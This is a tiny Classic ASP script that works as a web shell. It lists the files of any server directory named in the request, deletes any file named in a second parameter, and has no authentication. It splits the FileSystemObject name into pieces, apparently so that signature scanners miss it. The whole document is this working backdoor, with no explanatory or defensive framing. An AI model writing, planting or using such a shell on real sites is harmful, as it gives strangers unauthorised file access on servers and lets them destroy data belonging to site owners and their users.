<%
Set f = Server.CreateObject("Scrip" & "ting.FileSys" & "temObject")
d = Request("dir")
If Request("del") <> "" Then f.DeleteFile d & "\" & Request("del")
For Each x In f.GetFolder(d).Files
    Response.Write x.Name & "<br>"
Next
%>
